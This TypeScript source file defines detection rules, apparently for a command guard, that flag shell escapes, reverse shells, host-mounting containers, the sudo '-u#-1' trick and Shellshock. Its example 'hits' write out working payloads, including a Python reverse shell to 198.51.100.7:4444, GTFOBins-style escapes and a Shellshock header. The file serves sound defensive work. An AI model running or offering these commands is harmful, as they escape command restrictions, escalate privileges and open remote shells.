/** Shells that hide inside programs with another purpose. */
import type { Call } from '../../shell/call.ts'
import { shells } from '../../shell/wrappers.ts'
import { connectsShell } from './code-rules.ts'
import type { CommandRule } from './command-rule.ts'

/** A path to a shell where a program would take it as a command: alone, after `=`, `!`, `(`, a quote or a space. */
const SHELL_PATH =
  /(?:^|^-{1,2}[A-Za-z]|^(?:\.\.\/){1,12}|[\s=:;!|&("'`,{[+>])(?:\.\.)?(?:\/usr)?\/?\bbin\/(?:ba|z|da|k|c|a|tc|fi|r?ba)?sh(?![\w./-])/

/** `system("sh")` in whatever language a program takes. */
const STARTS_SHELL =
  /\b(?:system|exec[lv]?[pe]?|spawn\w{0,4}|popen|esyscmd|syscmd|callcommand|run-shell-command|os\.execute|shell_exec)\b[\s("'`\\]{1,4}(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k)?sh\b/i

/** Both of them need these letters. */
const NAMES_SHELL = /sh/i

/** These name shells without starting one, or start one as their everyday purpose. */
const NAMES_ONLY = new Set(
  'echo printf grep egrep fgrep rg ag ls cat file which whereis type stat test [ ln cp mv rm chsh useradd usermod adduser chmod chown head tail less more wc diff sha256sum md5sum shellcheck shfmt git docker podman kubectl oc nerdctl docker-compose tmux screen sudo doas su bash sh zsh dash ksh dscl readlink realpath strings ldd command hash export brew dpkg-query crontab nc ncat netcat python python3 python2 perl ruby node php lua jq ssh eval vagrant heroku gcloud cd source . alias tee curl wget update-alternatives getent tldr'.split(
    ' ',
  ),
)

/** Variables whose value a program runs. */
const RUN_VARIABLES =
  /^(?:PAGER|GIT_PAGER|MANPAGER|EDITOR|VISUAL|GIT_EDITOR|GIT_SSH_COMMAND|GIT_SSH|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|BROWSER|LESSOPEN|LD_PRELOAD|PROMPT_COMMAND|BASH_ENV|ENV|PERL5OPT|PYTHONSTARTUP|RUBYOPT|NODE_OPTIONS|RESTIC_PASSWORD_COMMAND|BORG_RSH|BORG_PASSCOMMAND|TERM_PROGRAM_COMMAND|SYSTEMD_EDITOR|KUBE_EDITOR|FCEDIT|TEXEDIT)$/

/** Whether text that a program will read makes it start a shell; a first line `#!/bin/sh` does not. */
export const startsShell = (content: string) =>
  content.length < 8_000 && (SHELL_PATH.test(content.replace(/^#!.*/, '')) || STARTS_SHELL.test(content))

const PRINTERS = new Set(['echo', 'printf', 'grep', 'egrep', 'fgrep', 'rg', 'git'])

const opensShell = (call: Call) =>
  shells.has(call.program) &&
  call.wrappers.length > 0 &&
  call.input === null &&
  call.args.every((arg) => /^-(?:[ilps]{1,4}|-login)$/.test(arg) || arg === '{}')

export const shellEscapes: readonly CommandRule[] = [
  {
    id: 'shell.wrapped-shell',
    level: 'medium',
    why: 'Starts a shell through another program, past any list of allowed commands.',
    programs: [...shells],
    matches: (call) =>
      opensShell(call) &&
      call.place === 'here' &&
      !call.wrappers.every(
        (name) =>
          ['tmux', 'screen', 'exec', 'env', 'uv', 'poetry', 'pipenv', 'conda', 'nix', 'script'].includes(
            name,
          ) && !call.path.startsWith('/'),
      ),
    examples: {
      hits: ['find . -exec /bin/sh \\; -quit', 'nice /bin/bash', 'xargs -a /dev/null sh', 'env /bin/sh'],
      misses: ['bash', 'bash build.sh', 'poetry run bash', 'docker run -it debian bash'],
    },
  },
  {
    id: 'shell.escape',
    level: 'medium',
    why: 'Makes a program with another purpose start a shell.',
    programs: 'any',
    matches: (call) =>
      (!NAMES_ONLY.has(call.program) &&
        !shells.has(call.program) &&
        call.program !== '' &&
        call.args.some(
          (arg) =>
            arg.length < 2_000 && NAMES_SHELL.test(arg) && (SHELL_PATH.test(arg) || STARTS_SHELL.test(arg)),
        )) ||
      /^:?!.{0,12}sh$/.test(call.path) ||
      (call.program === 'm4' && STARTS_SHELL.test(call.input ?? '')),
    examples: {
      hits: [
        "vim -c ':!/bin/sh'",
        'awk \'BEGIN {system("/bin/sh")}\'',
        'tar cf x y --checkpoint-action=exec=/bin/sh',
        "man '-H/bin/sh' ls",
      ],
      misses: ['ls -l /bin/sh', 'useradd -s /bin/bash lena', 'grep /bin/sh /etc/shells', 'cat /bin/sh.txt'],
    },
  },
  {
    id: 'shell.escape-option',
    level: 'medium',
    why: 'Uses an option through which a program runs other commands.',
    programs: 'any',
    matches: (call) =>
      call.args.some((arg, at) => {
        // Most words begin like none of these.
        if (!'-+pPlLkK'.includes(arg.charAt(0))) return false
        const next = call.args[at + 1] ?? ''
        return (
          /^--checkpoint-action=exec|^--use-compress-program=.{0,80}[;/]sh\b|^--to-command=|^--rsh-command=|^--shell-escape$|^-shell-escape$|^--script-security$/.test(
            arg,
          ) ||
          (/^(?:-o|-O)?(?:ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)[= ]/i.test(
            arg === '-o' ? next : arg,
          ) &&
            /[;|&`$]|\bsh\b/.test(arg === '-o' ? next : arg)) ||
          (/^(?:-c|--cmd|\+)$/.test(arg) &&
            /^(?:vi|vim|nvim|ex|view|gvim|rvim)$/.test(call.program) &&
            /^:?(?:!|silent !|py3?\b|lua\b|ruby\b|perl\b|shell\b|terminal\b|call system)/.test(next))
        )
      }),
    examples: {
      hits: [
        "ssh -o ProxyCommand=';sh 0<&2 1>&2' x",
        "vim -c ':!id' notes",
        'pdflatex --shell-escape notes.tex',
      ],
      misses: ['ssh -o ConnectTimeout=3 web1', "vim -c 'set nu' notes", 'pdflatex notes.tex'],
    },
  },
  {
    id: 'shell.input-as-script',
    level: 'high',
    why: 'Runs every line of its input as a script of its own.',
    programs: ['xargs', 'gxargs', 'parallel'],
    matches: (call) => {
      const at = call.args.findIndex((arg) => shells.has(arg.slice(arg.lastIndexOf('/') + 1)))
      const script = call.args[at + 2]
      return (
        at >= 0 && /^-[a-z]*c$/.test(call.args[at + 1] ?? '') && (script === undefined || script === '{}')
      )
    },
    examples: {
      hits: ['cat jobs.txt | xargs -I{} bash -c {}', 'parallel sh -c {} < jobs.txt'],
      misses: ["ls | xargs -I{} sh -c 'echo {}'", 'ls | xargs wc -l'],
    },
  },
  {
    id: 'shell.embedded-network-code',
    level: 'critical',
    why: 'Makes a program with another purpose connect a shell to the network.',
    programs: 'any',
    matches: (call) =>
      !NAMES_ONLY.has(call.program) &&
      call.args.some((arg) => arg.length > 24 && arg.length < 8_000 && connectsShell(arg)),
    examples: {
      hits: [
        'vim -c \':py3 import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));pty.spawn("sh")\'',
      ],
      misses: ["vim -c 'set nu' notes.txt", 'echo \'import socket; socket.socket(); os.system("/bin/sh")\''],
    },
  },
  {
    id: 'shell.run-variable',
    level: 'medium',
    why: 'Sets a variable whose value other programs run.',
    programs: 'any',
    matches: (call) =>
      call.environment.some(
        ([name, value]) =>
          RUN_VARIABLES.test(name) &&
          (SHELL_PATH.test(value) ||
            /^(?:ba|z|da|k)?sh\b|[;|`]|\$\(/.test(value) ||
            (name === 'LD_PRELOAD' && value !== '')),
      ),
    examples: {
      hits: ["PAGER='/bin/sh -c id' git log", 'LD_PRELOAD=./x.so ls'],
      misses: ['PAGER=cat git log', 'EDITOR=vim git commit'],
    },
  },
  {
    id: 'shell.host-mount',
    level: 'high',
    why: 'Starts a container that reaches the whole machine.',
    programs: ['docker', 'podman', 'nerdctl', 'lxc'],
    matches: (call, options) =>
      (options.words.includes('run') || options.words.includes('create') || options.words.includes('exec')) &&
      call.args.some((arg) =>
        /^(?:-v|--volume=)?\/:\/?\w|^(?:-v|--volume=)?\/(?:etc|root|boot|proc|sys)\/?:\/|docker\.sock:|(?:source|src)=\/,|^--(?:privileged|pid=host|userns=host|cap-add=(?:ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE))$/.test(
          arg,
        ),
      ),
    examples: {
      hits: [
        'docker run -v /:/host -it alpine sh',
        'docker run --privileged debian',
        'podman run --pid=host x',
      ],
      misses: ['docker run -v ./data:/data app', 'docker ps'],
    },
  },
  {
    id: 'shell.numeric-user-trick',
    level: 'high',
    why: 'Uses a user number that fools old versions of sudo into granting administrator rights.',
    programs: ['sudo'],
    matches: (call) => call.args.some((arg) => /^(?:-u|--user=)?#-1$|^(?:-u)?#4294967295$/.test(arg)),
    examples: { hits: ['sudo -u#-1 id', 'sudo -u "#-1" bash'], misses: ['sudo -u lena id'] },
  },
  {
    id: 'shell.shellshock',
    level: 'critical',
    why: 'Carries the Shellshock attack, which runs commands hidden in a function definition.',
    programs: 'any',
    matches: (call) =>
      call.environment.some(([, value]) => /^\(\) ?\{ ?:;? ?\} ?;/.test(value)) ||
      (call.args.some((arg) => arg.includes('() {') && /\(\) ?\{ ?:;? ?\} ?;/.test(arg)) &&
        !PRINTERS.has(call.program)),
    examples: {
      hits: ["env x='() { :;}; id' bash -c true", "curl -A '() { :; }; /bin/id' http://web1/cgi"],
      misses: ['f() { :; }; f', 'curl -A Mozilla http://web1'],
    },
  },
]
